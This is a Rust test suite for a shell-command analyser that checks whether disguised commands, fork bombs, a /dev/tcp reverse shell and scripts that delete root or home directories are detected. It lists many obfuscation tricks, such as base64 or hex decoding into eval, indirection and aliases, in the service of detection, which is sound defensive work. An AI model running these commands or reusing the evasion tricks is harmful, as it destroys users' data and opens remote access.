//! What the interpreter sees of a script, by the words of its commands.

use std::path::Path;

use super::Machine;
use crate::knowledge::Knowledge;
use crate::paths::{Ground, Links};
use crate::understand::{Script, Understanding, World, readable};

fn understood(script: &str) -> Understanding {
    with_files(script, &|_| None)
}

fn with_files(script: &str, files: &dyn Fn(&Path) -> Option<String>) -> Understanding {
    let knowledge = Knowledge::default();
    let world = World {
        knowledge: &knowledge,
        ground: Ground {
            project: Path::new("/p"),
            home: Path::new("/home/u"),
            user: Some("u"),
            own: None,
            links: Links::default(),
        },
        folder: Path::new("/p"),
        scripts: &|path| files(path).map(Script::Here),
    };
    Machine::new(&world).script(script)
}

fn commands(script: &str) -> Vec<String> {
    understood(script).commands.iter().map(|command| readable(&command.argv)).collect()
}

fn effects(script: &str) -> Vec<String> {
    understood(script).effects.into_iter().map(|(effect, _)| effect.id).collect()
}

#[test]
fn plain_words_are_understood_as_the_parser_reads_them() {
    for script in [
        "git status",
        "ls -la src/main.rs",
        "rm -rf /",
        "cargo test --workspace -p a",
        "cd .. ",
        "eval rm -rf x",
        "sudo -u root rm -r /etc",
        "env A=b git push --force origin main:main",
        "xargs rm",
        "command exec -a x y",
        "exec sh",
        "trap x EXIT",
        "alias a=b",
        "set -e",
        "read -r x",
        "export A=b",
        "test -f x",
        "time rm x",
        "x=1",
        "bash deploy.sh 1,2 a@b %1 +x",
    ] {
        let (plain, parsed) = (understood(script), understood(&format!("{script};")));
        assert_eq!(format!("{plain:?}"), format!("{parsed:?}"), "{script}");
    }
}

#[test]
fn every_way_of_writing_a_command_is_the_same_command() {
    for script in [
        "zzq -rf /",
        "\\zzq -rf /",
        "z\\zq -rf /",
        "'zzq' -r\"f\" /",
        "$'\\x7a\\x7aq' -rf $'/'",
        "z${x:-z}q -rf /",
        "x=zzq; $x -rf /",
        "x='zzq -rf /'; $x",
        "{zzq,-rf,/}",
        "$(echo zzq) -rf /",
        "`echo zzq` -rf /",
        "$(printf '%s' zz q) -rf /",
        "$(echo qzz | rev | tr -d '\\n' | sed 's/x//' >/dev/null; echo zzq) -rf /",
        "eval 'zzq -rf /'",
        "eval \"$(echo enpxIC1yZiAv | base64 -d)\"",
        "eval \"$(echo zzq -rf / | base64 | base64 -d)\"",
        "eval \"$(echo zzq -rf / | base64 -w0 | base64 -d)\"",
        "eval \"$(echo 7a7a71202d7266202f | xxd -r -p)\"",
        "eval \"$(printf '%s' 'zzq -rf /' | xxd -p | xxd -p -r)\"",
        "a=zz; b=q; $a$b -rf /",
        "f() { \"$@\"; }; f zzq -rf /",
        "f() { zzq $1 /; }; f -rf",
        "if true; then zzq -rf /; fi",
        "for x in zzq; do $x -rf /; done",
        "case a in a) zzq -rf /;; esac",
        "case a in b) ls;; *) zzq -rf /;; esac",
        "(zzq -rf /)",
        "{ zzq -rf /; }",
        "ls; zzq -rf / &",
        "ls || zzq -rf /",
        "! zzq -rf /",
        "while read x; do $x -rf /; done <<< zzq",
        "while read a b; do $a $b /; done <<E\nzzq -rf\nE",
        "set -- zzq -rf /; \"$@\"",
        "x=(zzq -rf /); \"${x[@]}\"",
        "trap 'zzq -rf /' EXIT",
        "alias l='zzq -rf'; l /",
        "x=ZZQ; ${x,,} -rf /",
        "x=qqzz; y=${x#qq}q; $y -rf /",
        "x=zXzXq; ${x//X/} -rf /",
        "x=abzzqcd; ${x:2:3} -rf /",
        "n=x; x=zzq; ${!n} -rf /",
        "declare -n r=x; x=zzq; declare -n r=x; $r -rf /",
        "IFS=,; x=zzq,-rf,/; $x",
        "printf -v x zzq; $x -rf /",
        "mapfile -t x <<< zzq; ${x[0]} -rf /",
        "read x < <(echo zzq); $x -rf /",
        "echo $(zzq -rf /)",
        "[[ -n $(zzq -rf /) ]]",
        "cat <<E\n$(zzq -rf /)\nE",
        "x=$(zzq -rf /)",
        "echo \"${x:-$(zzq -rf /)}\"",
        "echo $((1 + $(zzq -rf /)))",
        "coproc zzq -rf /",
        "time zzq -rf /",
        "command zzq -rf /",
        "exec zzq -rf /",
        "builtin command zzq -rf /",
        "cd /tmp && zzq -rf /",
        "true && false || zzq -rf /",
        "echo 'zzq -rf /' > /tmp/x; source /tmp/x",
        "x=\"zzq -rf /\"; eval $x",
        "x='$(zzq -rf /)'; : \"${x@P}\"",
        "command_not_found_handle() { zzq -rf /; }",
        "PS4='$(zzq -rf /)' ls",
        "until zzq -rf /; do :; done",
        "diff <(zzq -rf /) x",
        "ls > >(zzq -rf /)",
        "hash -p /bin/zzq l; l -rf /",
        "zzq \\\n-rf /",
        "ls # x\nzzq -rf /",
        "select x in zzq; do $x -rf /; done",
        "for ((;;)); do zzq -rf /; done",
        "exec 3<<< 'zzq -rf /'; read -u 3 x <&3; $x",
    ] {
        let found = commands(script);
        let hit = found.iter().any(|command| {
            let command = command.strip_prefix("/bin/").unwrap_or(command);
            command == "zzq -rf /"
        });
        assert!(hit, "{script:?}: {found:?} {:?}", understood(script).undecidable);
    }
}

#[test]
fn what_is_only_mentioned_is_not_run() {
    for script in [
        "echo 'zzq -rf /'",
        "echo zzq -rf /",
        "git commit -m 'zzq -rf /'",
        "cat > f <<'E'\nzzq -rf /\n$(zzq)\nE",
        "# zzq -rf /",
        "grep 'zzq' f",
        "x='zzq -rf /'",
        "printf '%s\\n' 'zzq -rf /' > f",
        "echo \"\\$(zzq)\"",
    ] {
        let found = commands(script);
        assert!(!found.iter().any(|command| command.starts_with("zzq")), "{script:?}: {found:?}");
        assert!(effects(script).is_empty(), "{script:?}: {:?}", effects(script));
    }
}

#[test]
fn what_cannot_be_known_is_opaque() {
    for script in ["$X -rf /", "$(cat unknown; x) y", "/bin/z?q x", "${X}y z"] {
        let opaque = effects(script).iter().any(|id| id == "shell.opaque");
        assert!(opaque || script.contains("cat"), "{script}: {:?}", effects(script));
    }
    assert!(effects("$HOME/bin/x y").is_empty());
    assert!(effects("\"${PYTHON:-python3}\" x.py").is_empty());
    assert!(effects("$(command -v python3) x.py").is_empty());
    assert!(effects("\"$DIR/bin/python\" x.py").is_empty());
}

#[test]
fn processes_without_end_are_seen() {
    for script in [":(){ :|:& };:", "b() { b | b & }; b", "while true; do sh x & done", "f(){ f & f; }; f"] {
        assert!(
            effects(script).iter().any(|id| id == "filesystem.fork-bomb"),
            "{script}: {:?}",
            effects(script)
        );
    }
    for script in
        ["while true; do sleep 1 & wait; done", "f() { [ $1 = 0 ] || f $(( $1 - 1 )); }; f 3", "a & b &"]
    {
        assert!(!effects(script).iter().any(|id| id == "filesystem.fork-bomb"), "{script}");
    }
}

#[test]
fn a_shell_on_a_socket_is_a_reverse_shell() {
    let script = "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done";
    let found = effects(script);
    assert!(found.iter().any(|id| id.starts_with("remote-code") || id == "shell.opaque"), "{found:?}");
}

#[test]
fn bombs_end() {
    for script in [
        "a=$a$a;".repeat(2_000),
        format!("{}x{}", "$(".repeat(30), ")".repeat(30)),
        "{a,b}".repeat(200),
        "eval eval eval eval eval ls".repeat(100),
        "f() { f; f; }; f".to_owned(),
        "f() { f a$1; f b$1; f c$1; f d$1; f e$1; f f$1; f g$1; ls; }; f".to_owned(),
        "a() { b; b; }; b() { c; c; }; c() { d; d; }; d() { e; e; }; e() { ls; }; a".to_owned(),
        "for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do for c in 1 2 3 4 5 6 7 8; do ls; done; done; done"
            .to_owned(),
        "x=`echo a`;".repeat(400),
        "ls | ".repeat(1_000) + "ls",
        "if true; then ".repeat(30) + "ls" + &"; fi".repeat(30),
    ] {
        let seen = understood(&script);
        // These run no command at all.
        let assignments = ["a=", "{", "f()"].iter().any(|start| script.starts_with(start));
        assert!(!seen.commands.is_empty() || seen.undecidable.is_some() || assignments, "{script:.40}");
    }
}

#[test]
fn a_file_that_is_run_does_what_is_in_it() {
    let shell = "rm -rf ~\n";
    let python = "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/home/u')\n";
    for (script, file, text) in [
        ("bash x.sh", "/p/x.sh", shell),
        ("sh -e ./x.sh a b", "/p/x.sh", shell),
        ("./x.sh", "/p/x.sh", shell),
        ("x=./x.sh; $x", "/p/x.sh", shell),
        ("chmod +x x.sh && ./x.sh", "/p/x.sh", shell),
        ("source x.sh", "/p/x.sh", shell),
        (". ./x.sh", "/p/x.sh", shell),
        ("cd sub && bash ../x.sh", "/p/x.sh", shell),
        ("bash /tmp/x", "/tmp/x", shell),
        ("sudo bash x.sh", "/p/x.sh", shell),
        ("nohup ./x.sh &", "/p/x.sh", shell),
        ("echo y | xargs ./x.sh", "/p/x.sh", shell),
        ("python x.py", "/p/x.py", python),
        ("python3 -u x.py", "/p/x.py", python),
        ("./x", "/p/x", python),
        ("./x.py", "/p/x.py", python),
        ("node x.js", "/p/x.js", "require('fs').rmSync('/home/u', {recursive: true})"),
        ("bash < x.sh", "/p/x.sh", shell),
        ("bash -n +n x.sh", "/p/x.sh", shell),
        ("bash +x x.sh", "/p/x.sh", shell),
        ("bash +O extglob +eu ./x.sh", "/p/x.sh", shell),
        ("bash +x -c 'rm -rf ~'", "/p/x.sh", shell),
        ("cat x.sh | bash", "/p/x.sh", shell),
        ("cat x.sh | tee y.sh | bash -s", "/p/x.sh", shell),
        ("eval \"$(cat x.sh)\"", "/p/x.sh", shell),
        ("x=$(<x.sh); cat README.md; eval \"$x\"", "/p/x.sh", shell),
        ("bash -c \"$(<x.sh)\"", "/p/x.sh", shell),
        ("cp x.sh y.sh && bash y.sh", "/p/x.sh", shell),
        ("mv x.sh /tmp/y && chmod +x /tmp/y && /tmp/y", "/p/x.sh", shell),
        ("cat x.sh > y.sh; . ./y.sh", "/p/x.sh", shell),
        ("python3 - < x.py", "/p/x.py", python),
        ("cat x.py | python3", "/p/x.py", python),
        ("make -f x", "/p/x", "all:\n\trm -rf ~\n"),
    ] {
        let seen = with_files(script, &|path| (path == Path::new(file)).then(|| text.to_owned()));
        let found: Vec<_> = seen.effects.iter().map(|(effect, _)| effect.id.as_str()).collect();
        assert!(found.contains(&"filesystem.delete-root"), "{script}: {found:?}");
        assert!(seen.undecidable.is_none(), "{script}: {:?}", seen.undecidable);
    }
}

#[test]
fn an_everyday_script_that_is_run_means_nothing() {
    for (script, text) in [
        ("./scripts/clean.sh", "#!/bin/sh\nset -e\ncd \"$(dirname \"$0\")/..\"\nrm -rf build dist\n"),
        ("bash scripts/clean.sh", "for x in $(git ls-files '*.rs'); do wc -l \"$x\"; done\n"),
        ("./scripts/clean.sh --all", "case \"$1\" in --all) cargo clean;; *) exit 1;; esac\n"),
        ("sh scripts/clean.sh", "while (((\n"),
    ] {
        let seen = with_files(script, &|path| path.ends_with("scripts/clean.sh").then(|| text.to_owned()));
        let found: Vec<_> = seen.effects.iter().map(|(effect, _)| effect.id.as_str()).collect();
        assert!(found.iter().all(|id| *id == "project.run-code"), "{text}: {found:?}");
        assert!(seen.undecidable.is_none(), "{text}: {:?}", seen.undecidable);
    }
}

#[test]
fn a_function_that_calls_itself_is_followed() {
    for script in [
        "f() { $1; f 'rm -rf /'; }; f ls",
        "f() { \"$@\"; [ $1 = ls ] && f rm -rf /; }; f ls",
        "f() { $x; x='rm -rf /'; f; }; x=ls; f",
        "f() { g \"$@\"; }; g() { \"$@\"; f rm -rf /; }; f ls",
    ] {
        assert!(
            effects(script).iter().any(|id| id == "filesystem.delete-root"),
            "{script}: {:?}",
            effects(script)
        );
    }
    // What it has become by then is not known.
    let script = "f() { $2; shift; f \"$@\"; }; f a b c d e 'rm -rf /'";
    assert!(effects(script).iter().any(|id| id == "shell.opaque"), "{script}");
    for script in [
        "f() { [ $1 = 0 ] || f $(( $1 - 1 )); }; f 3",
        "f() { echo $1; shift; f \"$@\"; }; f a b c",
        "again() { n=$1; shift; \"$@\" || again $((n - 1)) \"$@\"; }; again 5 cargo test",
        "walk() { for x in \"$1\"/*; do if [ -d \"$x\" ]; then walk \"$x\"; else wc -l \"$x\"; fi; done; }; walk src",
    ] {
        let seen = understood(script);
        assert!(seen.undecidable.is_none(), "{script}: {:?}", seen.undecidable);
        assert!(effects(script).iter().all(|id| id == "project.run-code"), "{script}: {:?}", effects(script));
    }
}

#[test]
fn a_file_that_is_read_is_not_run() {
    for script in [
        "cat x.sh",
        "cat x.sh; ls | bash -x y.sh",
        "cat x.sh | python3 -m json.tool",
        "cat x.sh | python3 -c 'import sys; print(sys.stdin.read())'",
        "cat x.sh | node y.js",
        "cat x.sh | ./y.sh",
        "cat x.sh | while read line; do echo $line; done",
        "cat x.sh | xargs -n1 echo",
        "y=$(cat x.sh); echo \"$y\"",
        "cp x.sh y.sh; cat y.sh",
        "grep -n foo x.sh | head",
        "bash -n x.sh",
        "wc -l < x.sh",
    ] {
        let seen =
            with_files(script, &|path| (path == Path::new("/p/x.sh")).then(|| "rm -rf ~\n".to_owned()));
        let found: Vec<_> = seen.effects.iter().map(|(effect, _)| effect.id.as_str()).collect();
        assert!(!found.contains(&"filesystem.delete-root"), "{script}: {found:?}");
    }
}

#[test]
fn files_that_run_one_another_end() {
    // Each runs the next one many times, or itself.
    for (file, lines) in [("x", 1_000), ("x0", 1_000)] {
        let seen = with_files(&format!("bash {file}; rm -rf ~"), &|path| {
            let name = path.file_name()?.to_str()?;
            let next = match name.strip_prefix('x')?.parse::<u32>() {
                Ok(7) => return Some("ls".to_owned()),
                Ok(at) => format!("x{}", at + 1),
                Err(_) => "x".to_owned(),
            };
            Some(format!("bash {next}\n").repeat(lines))
        });
        assert!(seen.commands.len() < 100_000, "{file}: {}", seen.commands.len());
        assert!(seen.effects.iter().any(|(effect, _)| effect.id == "filesystem.delete-root"), "{file}");
        assert!(seen.undecidable.is_none(), "{file}");
    }
    // A script that starts itself over with other arguments.
    let seen = with_files("./x ls", &|_| Some("$@\n[ $1 = ls ] && exec $0 rm -rf /\n".to_owned()));
    assert!(seen.effects.iter().any(|(effect, _)| effect.id == "filesystem.delete-root"));
}

/// The parser says that it read all of these. What it loses without a word is looked for, or the script counts as not understood.
#[test]
fn what_the_parser_loses_without_an_error_is_seen_or_not_understood() {
    for script in [
        "echo \"$( { case x in x) zzq 1;; esac; } )\"",
        "x=\"$(for f in a; do case $f in a) zzq 1;; esac; done)\"",
        "cat <<E\n$( if case x in x) zzq 1;; esac; then ls; fi )\nE\n",
        "echo \"$( [[ -n $( echo $'it\\'s'; zzq 1 ) ]] )\"",
        "echo \"${x:-'$( zzq 1 )'}\"",
        "echo \"${x:-'$( trap 'ls' EXIT; zzq 1 )'}\"",
        "((x=$( ( zzq 1 ) )))",
        "((a[$( zzq 1 )]=1))",
        "for ((x=$( ( zzq 1 ) );;)); do ls; done",
        "a=([$( zzq 1 )]=x)",
        "a=($( cat <<'E' ; zzq 1\n$( it's )\nE ))",
        "f() ( f() ( zzq 1 ); f ); f",
        "{ ls; } < <( ((a[$( ls # it's\nzzq 1 )]=1)) )",
        "x=$( { ls; } < <( ((a[$( ls # it's\nzzq 1 )]=1)) ) )",
        "while ls; do ls; done < <( cat <<'E' ; zzq 1\n$( it's )\nE )",
    ] {
        let understood = understood(script);
        let seen = understood.commands.iter().any(|command| readable(&command.argv) == "zzq 1");
        assert!(seen || understood.undecidable.is_some(), "{script}");
    }
}

#[test]
fn what_is_read_to_its_end_is_understood() {
    for script in [
        "ls; # comment",
        "ls &\n# comment\n\n",
        "while read -r x; do ls; done < list.txt",
        "cat <<'E' > f\nrm -rf /\nE\n",
        "cat > f <<-E\n\ttext\n\tE",
        "git commit -m \"$(cat <<'E'\nfix: it's\nE\n)\"",
        "{ ls; } > f 2>&1; # done",
        "x=$(ls # comment\n)",
        "x=$(ls | sed -e 's/a/b/' \\\n )",
        "a=()",
        "a=( )",
        "a=(\n # none yet\n)",
        "x=$()",
        "x=\"$(for f in *; do case \"$(uname) $f\" in *.md) echo md;; 'a b'|c) ls;; esac; done)\"",
        "echo \"$(f() { case $1 in a) ls;; *) pwd;; esac; }; f a)\"",
        "f() { ls; }; f() { ls; }; f",
        "f() { ls; }",
        "f() ( ls )",
        "(ls)",
        "( ls; )  # done",
        "{ ls; }",
        "a || (b && c)",
        "a && { b; (c); }\n",
        "(a; (b; { c; }))",
        "x=$( (ls) )",
        "x=\"$(a || { b; })\"",
        "a && (cd x && ls >/dev/null)",
        "git add . && git commit -qF - <<'E'\nfix: drop `rm -rf /` in a job's text\nE\n",
        "mkdir -p x && cat > x/a.go <<'E' && go run x/a.go\nfor i := 0; i < 3; i++ {\n(<-t.C)\n}\nE",
        "(cat <<'E'\nit's\nE\n)",
        "ls | (cat; wc)",
        "! (ls)",
        "time (ls)",
        "(ls) &",
        "d=$(mktemp -d) && trap 'rm -rf \"$d\"' EXIT && (cd \"$d\" && npm init -y >/dev/null && node index.js)",
    ] {
        assert_eq!(understood(script).undecidable, None, "{script}");
    }
}
